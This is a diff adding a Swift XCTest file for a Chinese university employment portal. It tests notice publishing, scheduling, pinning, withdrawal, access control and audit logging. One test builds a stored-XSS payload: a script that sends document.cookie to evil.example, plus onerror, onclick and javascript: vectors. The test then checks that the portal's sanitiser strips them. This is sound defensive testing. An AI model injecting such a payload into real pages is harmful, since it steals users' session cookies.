@@ -1,0 +1,81 @@
+@testable import JiuyeApp
+@testable import JiuyeJobCentre
+@testable import JiuyePlatform
+import Foundation
+import JiuyeDomain
+import SQLKit
+import XCTest
+import XCTVapor
+
+/// 通知公告 and 就业网首页 over HTTP: the office publishes (hostile HTML neutralised), schedules,
+/// pins and takes down; the portal shows the notice, the jobs and the 就业日历.
+final class NoticesPortalTests: XCTestCase {
+    var app: Application!
+
+    override func setUp() async throws { app = try await TestApp.make(seeded: true) }
+    override func tearDown() async throws { try await app.asyncShutdown() }
+
+    func id(_ title: String) async throws -> Int64 {
+        try await app.db.sql.raw("SELECT id FROM notices WHERE title = \(bind: title)").first()!.decode(column: "id", as: Int64.self)
+    }
+
+    func testTheOfficePublishesAndThePortalShowsItNeutralised() async throws {
+        let office = try await Browser.loggedIn(app, "school")
+        let hostile = """
+            <p onclick="steal()">即日起启用<strong>新版</strong>就业系统。</p><script>document.location='https://evil.example/?c='+document.cookie</script>\
+            <img src=x onerror=alert(1)><a href="javascript:alert(1)">点此</a><a href="https://job.example.edu.cn/guide">使用指南</a>
+            """
+        let published = try await office.submit("/jobcentre/notices", from: "/jobcentre/notices/new", form: [
+            ("category", "通知公告"), ("title", "关于启用新版就业系统的通知"), ("body", hostile), ("publish_at", ""), ("pinned", "1")])
+        XCTAssertEqual(published.status, .seeOther, published.body)
+        let notice = try await id("关于启用新版就业系统的通知")
+        let stored = try await app.db.sql.raw("SELECT body FROM notices WHERE id = \(bind: notice)").first()!.decode(column: "body", as: String.self)
+        XCTAssertFalse(stored.contains("script") || stored.contains("onerror") || stored.contains("onclick") || stored.contains("javascript"), stored)
+
+        let visitor = Browser(app)
+        let portal = try await visitor.get("/portal")
+        XCTAssertEqual(portal.status, .ok)
+        XCTAssertTrue(portal.body.contains("关于启用新版就业系统的通知") && portal.body.contains("置顶") && portal.body.contains("就业日历")
+                      && portal.body.contains("我是学生") && portal.body.contains("就业导航"), portal.body)
+        XCTAssertTrue(portal.body.contains("【通知】关于启用新版就业系统的通知"), "the calendar shows the day's notice")
+        let article = try await visitor.get("/news/\(notice)")
+        XCTAssertTrue(article.body.contains("<strong>新版</strong>") && article.body.contains("href=\"https://job.example.edu.cn/guide\""), article.body)
+        XCTAssertFalse(article.body.contains("evil.example") || article.body.contains("onerror") || article.body.contains("javascript:") || article.body.contains("steal()"),
+                       article.body)
+
+        // Bad input, and nobody but the office writes.
+        let bad = try await office.submit("/jobcentre/notices", from: "/jobcentre/notices/new", form: [
+            ("category", "通知公告"), ("title", "空"), ("body", "<script>x</script>"), ("publish_at", "明天")])
+        XCTAssertEqual(bad.status, .unprocessableEntity)
+        XCTAssertTrue(bad.body.contains("请填写正文") && bad.body.contains("请选择发布时间"), bad.body)
+        let counselor = try await Browser.loggedIn(app, "counselor")
+        let refused = try await counselor.submit("/jobcentre/notices", from: "/news", form: [("category", "通知公告"), ("title", "辅导员通知"), ("body", "正文")])
+        XCTAssertEqual(refused.status, .notFound)
+
+        // A scheduled notice appears when its time comes.
+        let at = ChinaTime.dateTime(app.clock.now() + 2 * 3_600).replacingOccurrences(of: " ", with: "T")
+        _ = try await office.submit("/jobcentre/notices", from: "/jobcentre/notices/new", form: [
+            ("category", "政策指南"), ("title", "2027 届就业政策解读"), ("body", "<p>政策要点</p>"), ("publish_at", at)])
+        let scheduled = try await id("2027 届就业政策解读")
+        var early = try await visitor.get("/news/\(scheduled)")
+        XCTAssertEqual(early.status, .notFound)
+        early = try await visitor.get("/news?category=%E6%94%BF%E7%AD%96%E6%8C%87%E5%8D%97")
+        XCTAssertFalse(early.body.contains("2027 届就业政策解读"))
+        app.clock.advance(seconds: 3 * 3_600)
+        let due = try await visitor.get("/news?category=%E6%94%BF%E7%AD%96%E6%8C%87%E5%8D%97")
+        XCTAssertTrue(due.body.contains("2027 届就业政策解读"), due.body)
+        let search = try await visitor.get("/news?q=%E6%94%BF%E7%AD%96%E8%A6%81%E7%82%B9")
+        XCTAssertTrue(search.body.contains("2027 届就业政策解读"), "searched by its text")
+
+        // Taken down: gone for the public.
+        let office2 = try await Browser.loggedIn(app, "school")
+        let withdrawn = try await office2.submit("/jobcentre/notices/\(notice)/withdraw", from: "/jobcentre/notices", form: [])
+        XCTAssertEqual(withdrawn.status, .seeOther)
+        let gone = try await visitor.get("/news/\(notice)")
+        XCTAssertEqual(gone.status, .notFound)
+        let actions = try await app.db.sql.raw("SELECT action FROM audit_log WHERE action LIKE 'jobcentre.notice%' ORDER BY id").all().map { try $0.decode(column: "action", as: String.self) }
+        XCTAssertEqual(actions, ["jobcentre.notice", "jobcentre.notice", "jobcentre.notice-withdraw"])
+        let month = try await visitor.get("/portal?month=99999-99")
+        XCTAssertEqual(month.status, .ok, "a bad month shows this month")
+    }
+}
